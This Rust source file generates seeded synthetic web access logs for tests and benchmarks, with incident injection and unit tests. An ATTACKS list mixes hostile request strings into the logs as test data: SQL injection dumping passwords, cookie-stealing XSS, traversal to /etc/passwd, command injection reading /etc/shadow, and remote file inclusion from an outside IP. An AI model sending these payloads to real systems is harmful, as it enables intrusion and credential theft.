//! `generate`: deterministic synthetic access logs for tests and benchmarks.
//!
//! Traffic is drawn from a seeded RNG: endpoints and client IPs follow Zipf laws (a few hot routes
//! and clients, a long tail), latency is lognormal per endpoint, statuses follow a realistic mix that
//! depends on the route (304s on static files, 401/403 on login, a trickle of 404s and 5xx), user
//! agents are real browser strings with ~12% bots. The same seed, format and line count always
//! produce the same bytes, so tests can compare against known totals and benchmarks are repeatable.
//!
//! That `shop` profile has a few dozen routes and user agents: right for tests that count them, too
//! kind to a benchmark. The `realistic` profile ([`realistic`]) follows the cardinalities of real
//! logs instead: sessions of page views and their assets over a long tail of pages, query strings,
//! clients, user agents and referers, with a daily cycle; `scripts/calibrate.py` prints it beside
//! the real logs it was fitted on.

use std::io::Write;

use rand::rngs::StdRng;
use rand::{Rng, SeedableRng};
use rand_distr::{Distribution, LogNormal, Zipf};

use crate::error::{Error, Result};
use crate::parse::value::{US_PER_SEC, civil_from_days};

pub mod realistic;

/// Formats `generate` can write.
pub const FORMATS: [&str; 5] = ["common", "combined", "combined_us", "nginx", "nginx_timed"];

/// What traffic looks like.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub enum Profile {
    /// A small shop: two dozen routes, a dozen user agents, Zipf clients.
    #[default]
    Shop,
    /// Real-world cardinalities; see [`realistic`].
    Realistic,
}

/// Settings of a generated log.
#[derive(Debug, Clone)]
pub struct GenerateOptions {
    /// One of [`FORMATS`].
    pub format: String,
    /// The traffic.
    pub profile: Profile,
    /// Lines to write.
    pub lines: u64,
    /// RNG seed.
    pub seed: u64,
    /// Timestamp of the first line, µs since the epoch.
    pub start_us: i64,
    /// Mean requests per second (spacing of timestamps).
    pub rps: f64,
    /// Share of requests that carry an attack (injections, traversal, probes, attack tools).
    pub attack_rate: f64,
    /// Incidents to inject (their times are the truth detection is scored against).
    pub injections: Vec<Injection>,
}

/// A kind of incident `generate --inject` can write.
#[derive(Debug, Clone, Copy, PartialEq, Eq, serde::Serialize)]
#[serde(rename_all = "kebab-case")]
pub enum InjectKind {
    /// Every response takes five times as long.
    LatencySpike,
    /// A third of the requests fail with 5xx.
    ErrorBurst,
    /// Four times the requests per second.
    TrafficSurge,
}

/// An incident over `[start_us, end_us)`.
#[derive(Debug, Clone, Copy, PartialEq, Eq, serde::Serialize)]
pub struct Injection {
    /// What happens.
    pub kind: InjectKind,
    /// From, µs since the epoch.
    #[serde(serialize_with = "iso")]
    pub start_us: i64,
    /// Until, µs since the epoch.
    #[serde(serialize_with = "iso")]
    pub end_us: i64,
}

fn iso<S: serde::Serializer>(us: &i64, s: S) -> std::result::Result<S::Ok, S::Error> {
    s.serialize_str(&crate::parse::value::format_rfc3339(*us))
}

impl Injection {
    /// Parses `KIND@T[+DURATION],...` where T is an offset from `start_us` (`6h`) or an RFC 3339
    /// time, and DURATION defaults to 10 minutes.
    pub fn parse_list(text: &str, start_us: i64) -> Result<Vec<Injection>> {
        text.split(',')
            .map(str::trim)
            .filter(|s| !s.is_empty())
            .map(|item| {
                let bad = |why: &str| {
                    Error::Usage(format!(
                        "--inject `{item}`: {why}; write KIND@T[+DURATION] with KIND latency-spike, error-burst or traffic-surge, T an offset like 6h or a time like 2024-01-01T06:00:00Z, e.g. latency-spike@6h+15m"
                    ))
                };
                let (kind, when) = item.split_once('@').ok_or_else(|| bad("no @"))?;
                let kind = match kind {
                    "latency-spike" => InjectKind::LatencySpike,
                    "error-burst" => InjectKind::ErrorBurst,
                    "traffic-surge" => InjectKind::TrafficSurge,
                    _ => return Err(bad("unknown kind")),
                };
                let (at, dur) = match when.rsplit_once('+') {
                    Some((a, d)) if crate::parse::value::parse_span(d).is_some() => (a, d),
                    _ => (when, "10m"),
                };
                let dur = crate::parse::value::parse_span(dur).filter(|d| *d > 0).ok_or_else(|| bad("bad duration"))?;
                let start = crate::parse::value::parse_iso8601(at.as_bytes())
                    .or_else(|| crate::parse::value::parse_span(at).map(|o| start_us + o))
                    .ok_or_else(|| bad("bad time"))?;
                Ok(Injection {
                    kind,
                    start_us: start,
                    end_us: start + dur,
                })
            })
            .collect()
    }
}

impl Default for GenerateOptions {
    fn default() -> Self {
        GenerateOptions {
            format: "combined".into(),
            profile: Profile::Shop,
            lines: 1000,
            seed: 1,
            start_us: 1_704_067_200 * US_PER_SEC,
            rps: 20.0,
            attack_rate: 0.0,
            injections: Vec::new(),
        }
    }
}

/// Totals of what was written, for checking a round trip.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq, serde::Serialize)]
pub struct GenerateTotals {
    /// Lines written.
    pub lines: u64,
    /// Bytes written.
    pub bytes_written: u64,
    /// Sum of the status column.
    pub status_sum: u64,
    /// Sum of the bytes column (`-` counts as 0).
    pub bytes_sum: u64,
}

struct Endpoint {
    template: &'static str,
    method: &'static str,
    median_ms: f64,
    sigma: f64,
    size: f64,
    kind: Kind,
}

#[derive(Clone, Copy, PartialEq)]
enum Kind {
    Page,
    Api,
    Static,
    Login,
}

const fn ep(
    template: &'static str,
    method: &'static str,
    median_ms: f64,
    sigma: f64,
    size: f64,
    kind: Kind,
) -> Endpoint {
    Endpoint {
        template,
        method,
        median_ms,
        sigma,
        size,
        kind,
    }
}

const ENDPOINTS: [Endpoint; 24] = [
    ep("/", "GET", 35.0, 0.5, 18_000.0, Kind::Page),
    ep(
        "/api/v1/products/{id}",
        "GET",
        28.0,
        0.6,
        2_400.0,
        Kind::Api,
    ),
    ep(
        "/static/js/app.{hex}.js",
        "GET",
        2.0,
        0.4,
        210_000.0,
        Kind::Static,
    ),
    ep(
        "/static/css/site.{hex}.css",
        "GET",
        1.5,
        0.4,
        48_000.0,
        Kind::Static,
    ),
    ep("/api/v1/search", "GET", 120.0, 0.8, 9_000.0, Kind::Api),
    ep("/products/{id}", "GET", 60.0, 0.6, 32_000.0, Kind::Page),
    ep("/images/{id}.jpg", "GET", 3.0, 0.5, 85_000.0, Kind::Static),
    ep("/api/v1/users/{id}", "GET", 22.0, 0.5, 1_100.0, Kind::Api),
    ep("/api/v1/cart", "POST", 45.0, 0.6, 700.0, Kind::Api),
    ep("/login", "POST", 180.0, 0.4, 900.0, Kind::Login),
    ep("/api/v1/orders/{id}", "GET", 75.0, 0.7, 3_200.0, Kind::Api),
    ep("/category/{slug}", "GET", 90.0, 0.6, 41_000.0, Kind::Page),
    ep("/api/v1/orders", "POST", 240.0, 0.6, 1_500.0, Kind::Api),
    ep("/favicon.ico", "GET", 1.0, 0.3, 1_150.0, Kind::Static),
    ep(
        "/api/v1/recommendations/{id}",
        "GET",
        310.0,
        0.9,
        5_600.0,
        Kind::Api,
    ),
    ep("/checkout", "GET", 140.0, 0.5, 27_000.0, Kind::Page),
    ep(
        "/api/v1/users/{id}/orders/{id}",
        "GET",
        95.0,
        0.7,
        4_100.0,
        Kind::Api,
    ),
    ep("/robots.txt", "GET", 1.0, 0.3, 120.0, Kind::Static),
    ep(
        "/api/v1/inventory/{uuid}",
        "GET",
        55.0,
        0.6,
        800.0,
        Kind::Api,
    ),
    ep("/account", "GET", 70.0, 0.5, 22_000.0, Kind::Page),
    ep(
        "/api/v1/reports/export",
        "GET",
        1_800.0,
        0.7,
        480_000.0,
        Kind::Api,
    ),
    ep("/blog/{slug}", "GET", 50.0, 0.5, 36_000.0, Kind::Page),
    ep(
        "/api/v1/payments/{uuid}",
        "POST",
        420.0,
        0.5,
        600.0,
        Kind::Api,
    ),
    ep("/healthz", "GET", 0.6, 0.2, 2.0, Kind::Api),
];

const BROWSERS: [&str; 8] = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.1 Safari/605.1.15",
    "Mozilla/5.0 (X11; Linux x86_64; rv:121.0) Gecko/20100101 Firefox/121.0",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.1 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.6099.43 Mobile Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36 Edg/120.0.0.0",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/119.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:120.0) Gecko/20100101 Firefox/120.0",
];

const BOTS: [&str; 5] = [
    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
    "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
    "curl/8.4.0",
    "python-requests/2.31.0",
    "Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)",
];

const REFERERS: [&str; 4] = [
    "https://www.google.com/",
    "https://shop.example.com/",
    "https://shop.example.com/products/1042",
    "https://news.ycombinator.com/",
];

const MONTHS: [&str; 12] = [
    "Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov", "Dec",
];

/// Writes synthetic logs; see the module docs.
pub struct Generator {
    opts: GenerateOptions,
}

impl Generator {
    /// Checks the options.
    pub fn new(opts: GenerateOptions) -> Result<Generator> {
        if !FORMATS.contains(&opts.format.as_str()) {
            return Err(Error::Usage(format!(
                "generate cannot write format `{}`; it writes: {}",
                opts.format,
                FORMATS.join(", ")
            )));
        }
        if !(opts.rps > 0.0 && opts.rps.is_finite()) {
            return Err(Error::Usage("--rps must be a positive number".into()));
        }
        if !(0.0..=1.0).contains(&opts.attack_rate) {
            return Err(Error::Usage("--attack-rate must be between 0 and 1".into()));
        }
        Ok(Generator { opts })
    }

    /// Writes the lines to `out`.
    pub fn write(&self, out: &mut dyn Write) -> std::io::Result<GenerateTotals> {
        match self.opts.profile {
            Profile::Shop => self.write_shop(out),
            Profile::Realistic => self.write_realistic(out),
        }
    }

    fn write_shop(&self, out: &mut dyn Write) -> std::io::Result<GenerateTotals> {
        let o = &self.opts;
        let mut rng = StdRng::seed_from_u64(o.seed);
        let route_dist = Zipf::new(ENDPOINTS.len() as f64, 1.05).expect("valid Zipf");
        let client_dist = Zipf::new(20_000.0, 1.1).expect("valid Zipf");
        let latency: Vec<LogNormal<f64>> = ENDPOINTS
            .iter()
            .map(|e| LogNormal::new((e.median_ms * 1000.0).ln(), e.sigma).expect("valid lognormal"))
            .collect();
        let sizes: Vec<LogNormal<f64>> = ENDPOINTS
            .iter()
            .map(|e| LogNormal::new(e.size.ln(), 0.3).expect("valid lognormal"))
            .collect();
        let mut lines = LineWriter::new(o, out);
        let mut ts = o.start_us;
        let mut target = String::new();
        for _ in 0..o.lines {
            ts += self.gap(&mut rng, ts, 1.0);
            let e_idx = route_dist.sample(&mut rng) as usize - 1;
            let e = &ENDPOINTS[e_idx];
            let client = client_dist.sample(&mut rng) as u32;
            let bot = rng.random::<f64>() < 0.12;
            let agent = if bot {
                BOTS[rng.random_range(0..BOTS.len())]
            } else {
                BROWSERS[(client as usize * 7 + 3) % BROWSERS.len()]
            };
            let picked = pick_status(&mut rng, e.kind, e.method);
            let status = self.burst(&mut rng, ts, picked);
            let rt_us = self.slowed(ts, status, latency[e_idx].sample(&mut rng));
            let bytes = match status {
                304 => 0,
                s if s >= 300 => 150 + rng.random_range(0..200),
                _ => sizes[e_idx].sample(&mut rng) as u64,
            };
            let attack = self.attack(&mut rng);
            target.clear();
            if let Some((path, _)) = attack {
                target.push_str(path);
            } else {
                expand(&mut target, e.template, &mut rng);
                if e.template == "/api/v1/search" {
                    use std::fmt::Write as _;
                    let _ = write!(
                        target,
                        "?q=item{}&page={}",
                        rng.random_range(0..500),
                        rng.random_range(1..5)
                    );
                }
            }
            let referer = if !lines.with_agent {
                "-"
            } else if e.kind == Kind::Static || rng.random::<f64>() < 0.3 {
                REFERERS[(client as usize) % REFERERS.len()]
            } else {
                "-"
            };
            let user = if e.kind == Kind::Login && status == 200 {
                "alice"
            } else {
                "-"
            };
            lines.write(&Request {
                ts,
                ip: &client_ip(client),
                user,
                method: e.method,
                target: &target,
                status,
                bytes,
                referer,
                agent: attack.and_then(|a| a.1).unwrap_or(agent),
                rt_us,
            })?;
        }
        lines.finish()
    }

    fn write_realistic(&self, out: &mut dyn Write) -> std::io::Result<GenerateTotals> {
        let o = &self.opts;
        let mut rng = StdRng::seed_from_u64(o.seed);
        let mut site = realistic::Site::new();
        let mut lines = LineWriter::new(o, out);
        let mut ts = o.start_us;
        let mut req = realistic::Drawn::default();
        for _ in 0..o.lines {
            ts += self.gap(&mut rng, ts, realistic::diurnal(ts));
            site.next(&mut rng, &mut req);
            let status = self.burst(&mut rng, ts, req.status);
            let rt_us = self.slowed(ts, status, req.rt_us as f64);
            let attack = self.attack(&mut rng);
            lines.write(&Request {
                ts,
                ip: &req.ip,
                user: &req.user,
                method: req.method,
                target: attack.map_or(req.target.as_str(), |a| a.0),
                status,
                bytes: if status >= 500 { 0 } else { req.bytes },
                referer: &req.referer,
                agent: attack.and_then(|a| a.1).unwrap_or(&req.agent),
                rt_us,
            })?;
        }
        lines.finish()
    }

    /// Time to the next request: exponential around the mean rate, scaled by `rate` and by a
    /// traffic surge.
    fn gap(&self, rng: &mut StdRng, ts: i64, rate: f64) -> i64 {
        let surge = if self.active(InjectKind::TrafficSurge, ts) {
            4.0
        } else {
            1.0
        };
        let mean_gap_us = US_PER_SEC as f64 / self.opts.rps;
        (mean_gap_us / (surge * rate) * -(1.0 - rng.random::<f64>()).ln()) as i64
    }

    fn active(&self, kind: InjectKind, at: i64) -> bool {
        self.opts
            .injections
            .iter()
            .any(|i| i.kind == kind && (i.start_us..i.end_us).contains(&at))
    }

    /// `status`, or a 5xx for a third of the requests inside an error burst (drawn only inside
    /// one, so that other logs keep their bytes).
    fn burst(&self, rng: &mut StdRng, ts: i64, status: u16) -> u16 {
        if self.active(InjectKind::ErrorBurst, ts) && rng.random::<f64>() < 1.0 / 3.0 {
            [500, 502, 503][rng.random_range(0..3)]
        } else {
            status
        }
    }

    /// The response time, five times longer in a latency spike and three times on a 5xx.
    fn slowed(&self, ts: i64, status: u16, drawn_us: f64) -> u64 {
        let mut rt_us = drawn_us.max(50.0) as u64;
        if self.active(InjectKind::LatencySpike, ts) {
            rt_us = rt_us.saturating_mul(5);
        }
        if status >= 500 {
            rt_us = rt_us.saturating_mul(3);
        }
        rt_us
    }

    /// An attack request in place of this one, at `attack_rate` (drawn only when attacks are
    /// asked for, so that other logs keep their bytes).
    fn attack(&self, rng: &mut StdRng) -> Option<(&'static str, Option<&'static str>)> {
        (self.opts.attack_rate > 0.0 && rng.random::<f64>() < self.opts.attack_rate)
            .then(|| ATTACKS[rng.random_range(0..ATTACKS.len())])
    }
}

/// One request, as a line shows it.
struct Request<'a> {
    ts: i64,
    ip: &'a str,
    user: &'a str,
    method: &'a str,
    target: &'a str,
    status: u16,
    bytes: u64,
    referer: &'a str,
    agent: &'a str,
    rt_us: u64,
}

/// Renders requests in the asked format and keeps the totals.
struct LineWriter<'w> {
    out: &'w mut dyn Write,
    format: &'w str,
    apache_style: bool,
    with_agent: bool,
    line: String,
    stamp: (i64, String),
    totals: GenerateTotals,
}

impl<'w> LineWriter<'w> {
    fn new(opts: &'w GenerateOptions, out: &'w mut dyn Write) -> LineWriter<'w> {
        LineWriter {
            out,
            format: &opts.format,
            apache_style: matches!(opts.format.as_str(), "common" | "combined" | "combined_us"),
            with_agent: opts.format != "common",
            line: String::with_capacity(512),
            stamp: (i64::MIN, String::new()),
            totals: GenerateTotals::default(),
        }
    }

    fn write(&mut self, r: &Request) -> std::io::Result<()> {
        use std::fmt::Write as _;
        let secs = r.ts.div_euclid(US_PER_SEC);
        if self.stamp.0 != secs {
            self.stamp = (secs, clf(secs));
        }
        let line = &mut self.line;
        line.clear();
        let _ = write!(
            line,
            "{} - {} [{}] \"{} {} HTTP/1.1\" {} ",
            r.ip, r.user, self.stamp.1, r.method, r.target, r.status
        );
        if r.bytes == 0 && self.apache_style {
            line.push('-');
        } else {
            let _ = write!(line, "{}", r.bytes);
        }
        if self.with_agent {
            let _ = write!(line, " \"{}\" \"{}\"", r.referer, r.agent);
        }
        match self.format {
            "combined_us" => {
                let _ = write!(line, " {}", r.rt_us);
            }
            "nginx_timed" => {
                let _ = write!(
                    line,
                    " {}.{:03}",
                    r.rt_us / 1_000_000,
                    r.rt_us / 1000 % 1000
                );
            }
            _ => {}
        }
        line.push('\n');
        self.out.write_all(line.as_bytes())?;
        self.totals.lines += 1;
        self.totals.bytes_written += line.len() as u64;
        self.totals.status_sum += r.status as u64;
        self.totals.bytes_sum += r.bytes;
        Ok(())
    }

    fn finish(self) -> std::io::Result<GenerateTotals> {
        self.out.flush()?;
        Ok(self.totals)
    }
}

/// Attack requests mixed in by `attack_rate`: the request target and, for attack tools, the
/// user agent.
const ATTACKS: [(&str, Option<&str>); 10] = [
    (
        "/products?id=1%27%20UNION%20SELECT%20username,password%20FROM%20users--",
        None,
    ),
    (
        "/search?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E",
        None,
    ),
    ("/download?file=../../../../etc/passwd", None),
    ("/ping?host=127.0.0.1;cat%20/etc/shadow", None),
    ("/.env", Some("python-requests/2.31.0")),
    ("/.git/config", None),
    (
        "/wp-login.php",
        Some("WPScan v3.8.25 (https://wpscan.com/wordpress-security-scanner)"),
    ),
    ("/index.php?page=http://198.51.100.7/shell.txt?", None),
    (
        "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
        Some("Go-http-client/1.1"),
    ),
    (
        "/api/v1/items?id=1%20AND%20SLEEP(5)",
        Some("sqlmap/1.8#stable (https://sqlmap.org)"),
    ),
];

fn pick_status(rng: &mut StdRng, kind: Kind, method: &str) -> u16 {
    let r: f64 = rng.random();
    match kind {
        Kind::Static if r < 0.25 => 304,
        Kind::Login if r < 0.30 => 401,
        Kind::Login if r < 0.33 => 403,
        Kind::Login if r < 0.80 => 302,
        _ if r < 0.985 - 0.02 - 0.006 => {
            if method == "POST" {
                201
            } else {
                200
            }
        }
        _ if r < 0.98 => 404,
        _ if r < 0.985 => 301,
        _ if r < 0.993 => 500,
        _ if r < 0.997 => 502,
        _ => 503,
    }
}

fn client_ip(n: u32) -> String {
    let h = n.wrapping_mul(2_654_435_761);
    format!(
        "{}.{}.{}.{}",
        11 + (h >> 24) % 200,
        (h >> 16) & 0xff,
        (h >> 8) & 0xff,
        1 + (h & 0xff) % 254
    )
}

fn expand(out: &mut String, template: &str, rng: &mut StdRng) {
    use std::fmt::Write as _;
    let mut rest = template;
    while let Some(open) = rest.find('{') {
        out.push_str(&rest[..open]);
        let close = rest[open..].find('}').map_or(rest.len(), |c| open + c);
        match &rest[open + 1..close] {
            "id" => {
                let _ = write!(out, "{}", rng.random_range(1..100_000));
            }
            "hex" => {
                let _ = write!(out, "{:08x}", rng.random::<u32>() & 0xf);
            }
            "uuid" => {
                let a: u128 = rng.random();
                let _ = write!(
                    out,
                    "{:08x}-{:04x}-{:04x}-{:04x}-{:012x}",
                    (a >> 96) as u32,
                    (a >> 80) as u16,
                    (a >> 64) as u16,
                    (a >> 48) as u16,
                    a as u64 & 0xffff_ffff_ffff
                );
            }
            _ => {
                let _ = write!(out, "item-{}", rng.random_range(1..300));
            }
        }
        rest = &rest[(close + 1).min(rest.len())..];
    }
    out.push_str(rest);
}

fn clf(secs: i64) -> String {
    let (y, m, d) = civil_from_days(secs.div_euclid(86_400));
    let r = secs.rem_euclid(86_400);
    format!(
        "{d:02}/{}/{y:04}:{:02}:{:02}:{:02} +0000",
        MONTHS[m as usize - 1],
        r / 3600,
        r / 60 % 60,
        r % 60
    )
}

#[cfg(test)]
mod tests {
    use super::*;

    fn gen_text(format: &str, lines: u64, seed: u64) -> (String, GenerateTotals) {
        let g = Generator::new(GenerateOptions {
            format: format.into(),
            lines,
            seed,
            ..GenerateOptions::default()
        })
        .unwrap();
        let mut out = Vec::new();
        let t = g.write(&mut out).unwrap();
        (String::from_utf8(out).unwrap(), t)
    }

    #[test]
    fn same_seed_same_bytes_other_seed_other_bytes() {
        assert_eq!(
            gen_text("nginx_timed", 300, 7).0,
            gen_text("nginx_timed", 300, 7).0
        );
        assert_ne!(
            gen_text("nginx_timed", 300, 7).0,
            gen_text("nginx_timed", 300, 8).0
        );
    }

    #[test]
    fn traffic_is_skewed_and_mixed() {
        let (text, totals) = gen_text("combined", 20_000, 3);
        assert_eq!(totals.lines, 20_000);
        let lines: Vec<&str> = text.lines().collect();
        let count = |needle: &str| lines.iter().filter(|l| l.contains(needle)).count();
        let home = count("\"GET / HTTP/1.1\"");
        let health = count("/healthz ");
        assert!(
            home > 5 * health.max(1),
            "Zipf: / ({home}) dominates /healthz ({health})"
        );
        let bots = count("bot") + count("curl/") + count("python-requests");
        assert!((1_500..3_500).contains(&bots), "about 12% bots, got {bots}");
        let errors = count("\" 500 ") + count("\" 502 ") + count("\" 503 ");
        assert!(errors > 50 && errors < 1_000, "some 5xx, got {errors}");
        assert!(count("\" 404 ") > 100);
    }

    #[test]
    fn attacks_are_mixed_in_at_the_asked_rate() {
        let g = Generator::new(GenerateOptions {
            format: "nginx".into(),
            lines: 20_000,
            attack_rate: 0.01,
            ..GenerateOptions::default()
        })
        .unwrap();
        let mut out = Vec::new();
        g.write(&mut out).unwrap();
        let text = String::from_utf8(out).unwrap();
        let attacks = text
            .lines()
            .filter(|l| {
                ATTACKS
                    .iter()
                    .any(|(target, _)| l.contains(&format!(" {target} ")))
            })
            .count();
        assert!(
            (140..260).contains(&attacks),
            "about 1% attacks, got {attacks}"
        );
        assert!(
            Generator::new(GenerateOptions {
                attack_rate: 1.5,
                ..GenerateOptions::default()
            })
            .is_err()
        );
    }

    #[test]
    fn unknown_format_is_a_usage_error() {
        let err = Generator::new(GenerateOptions {
            format: "w3c".into(),
            ..GenerateOptions::default()
        })
        .err()
        .unwrap();
        assert!(err.to_string().contains("nginx_timed"));
    }
}
